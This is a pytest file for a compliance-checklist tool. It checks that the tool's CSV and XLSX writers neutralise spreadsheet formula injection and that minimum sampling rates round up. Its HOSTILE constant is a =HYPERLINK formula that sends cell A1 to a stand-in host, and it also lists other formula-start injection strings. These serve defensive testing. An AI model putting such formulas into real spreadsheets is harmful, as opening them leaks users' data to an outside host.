"""No CSV or XLSX the tool writes can carry a formula (issue 16, item 3), and sampling rounds a
minimum rate up (item 7). Each writer is fed a name, note or unit that a spreadsheet would run."""

from __future__ import annotations

import csv
import re

import openpyxl
import pytest
from paths import EXAMPLES

HOSTILE = '=HYPERLINK("http://x/?"&A1,"点击")'
OTHERS = ["+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def csv_rows(path):
    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))


def csv_cells(path):
    """Every cell as a spreadsheet reads it (the reader keeps quoted line breaks inside cells)."""
    with path.open(encoding="utf-8-sig", newline="") as f:
        return [c for row in csv.reader(f) for c in row]


def xlsx_cells(path):
    book = openpyxl.load_workbook(path)
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_no_live_csv_cell(path, texts):
    cells = csv_cells(path)
    for text in texts:
        assert "'" + text in cells, (text, cells[:40])
    live = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"-\d+", c)]
    assert not live  # a negative number the tool wrote stays a number


def assert_xlsx_text(path, texts):
    cells = xlsx_cells(path)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for text in texts:
        found = [c for c in cells if c.value == text]
        assert found and all(c.data_type == "s" for c in found), text


def test_shared_writer_neutralises_every_formula_start(tmp_path):
    from checklist.files.spreadsheet import Sheet, csv_text, write_xlsx

    (tmp_path / "t.csv").write_text(csv_text(["名称", HOSTILE], [[t, 1] for t in [HOSTILE, *OTHERS]] + [[-5, None]]), encoding="utf-8")
    assert_no_live_csv_cell(tmp_path / "t.csv", [HOSTILE, *OTHERS])
    assert csv_rows(tmp_path / "t.csv")[-1] == ["-5", ""]  # numbers stay numbers
    texts = [HOSTILE, *OTHERS[:-1]]  # XML stores a lone CR as a line break: it cannot start a formula there
    write_xlsx(tmp_path / "t.xlsx", [Sheet("表", ["名称", HOSTILE], [[t, 1] for t in texts])])
    assert_xlsx_text(tmp_path / "t.xlsx", texts)
    assert openpyxl.load_workbook(tmp_path / "t.xlsx").worksheets[0]["B2"].value == 1


def test_batch_summary_csv_and_xlsx(run, monkeypatch, tmp_path):
    monkeypatch.setenv("CHECKLIST_CATALOGS", str(EXAMPLES / "catalog" / "valid"))
    sheet = tmp_path / "p.csv"
    rows = [["名称", "地址", "建筑面积"], [HOSTILE, "-北京", "120"], ["@某机构", "+朝阳", "80"]]
    with sheet.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    result = run("audit", "batch", "--catalog", "rules", "--kind", "base", "--facts", sheet, "--date", "2026-11-20", "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert_no_live_csv_cell(tmp_path / "out" / "summary.csv", [HOSTILE, "-北京", "@某机构", "+朝阳"])
    assert_xlsx_text(tmp_path / "out" / "summary.xlsx", [HOSTILE, "-北京", "@某机构", "+朝阳"])


def test_report_csv(run, new_audit, tmp_path):
    out = new_audit()
    text = out.read_text(encoding="utf-8")
    note = HOSTILE.replace('"', '\\"')
    text = text.replace("result: unchecked", f'result: pass\n    note: "{note}"', 1)
    text = text.replace("result: unchecked", 'result: na\n    reason: "-1+2"', 1)
    out.write_text(text, encoding="utf-8")
    result = run("report", out, "--format", "csv", "-o", tmp_path / "r.csv")
    assert result.exit_code == 0, result.output
    assert_no_live_csv_cell(tmp_path / "r.csv", [HOSTILE, "-1+2"])


def hostile_catalog(tmp_path):
    text = (EXAMPLES / "catalog" / "valid" / "minimal.yaml").read_text(encoding="utf-8")
    text = text.replace("{id: office, name: 办公室}", "{id: office, name: '@办公室'}")
    text = text.replace(
        "text: 本办法自发布之日起施行。",
        "text: '=1+1 本办法自发布之日起施行。'\n    responsible: [office]\n    checks: [{id: A1-a, ask: '-是否施行？'}]",
    )
    path = tmp_path / "hostile.yaml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_duty_lists(run, tmp_path, fmt):
    catalog = hostile_catalog(tmp_path)
    out = tmp_path / f"d.{fmt}"
    result = run("duties", "--catalog", catalog, "--format", fmt, "-o", out)
    assert result.exit_code == 0, result.output
    texts = ["@办公室", "=1+1 本办法自发布之日起施行。", "-是否施行？"]
    if fmt == "csv":
        assert_no_live_csv_cell(out, texts)
    else:
        assert_xlsx_text(out, texts)


# --- sampling plans: hostile cells, and 不低于 -----------------------------------------------


def test_sampling_plan(run, tmp_path):
    population = tmp_path / "p.csv"
    with population.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["编号", "名称", "=区"], ["1", HOSTILE, "=A1"], ["2", "-x", "@y,=z"]])
    result = run("sample", population, "--rate", "100%", "--stratify-by", "=区", "--seed", "1", "-o", tmp_path / "plan.csv")
    assert result.exit_code == 0, result.output
    assert_no_live_csv_cell(tmp_path / "plan.csv", [HOSTILE, "=A1", "-x", "@y,=z", "=区"])
    notes = [c for c in csv_cells(tmp_path / "plan.csv") if c.startswith("#")]
    assert len(notes) == 3 and "@y,=z 1/1" in notes[2]  # a comma in a value cannot split a note into cells


def population(path, n):
    path.write_text("编号\n" + "".join(f"{i}\n" for i in range(1, n + 1)), encoding="utf-8")


@pytest.mark.parametrize("rounding, chosen", [(None, 4), ("up", 4), ("half-up", 3)])
def test_minimum_rate_rounds_up(run, tmp_path, rounding, chosen):
    """京民发〔2026〕6号: 抽查比例不低于1% — 1% of 349 is 3.49 rows, so at least 4."""
    population(tmp_path / "p.csv", 349)
    extra = ["--rounding", rounding] if rounding else []
    result = run("sample", tmp_path / "p.csv", "--rate", "1%", "--seed", "1", *extra, "-o", tmp_path / "plan.csv")
    assert result.exit_code == 0, result.output
    lines = (tmp_path / "plan.csv").read_text(encoding="utf-8-sig").splitlines()
    assert len([line for line in lines if not line.startswith("#")]) - 1 == chosen
    expected = "四舍五入" if rounding == "half-up" else "向上取整（不低于）"
    assert re.search(rf"^# 比例 0\.01（{re.escape(expected)}）；", "\n".join(lines), re.M)
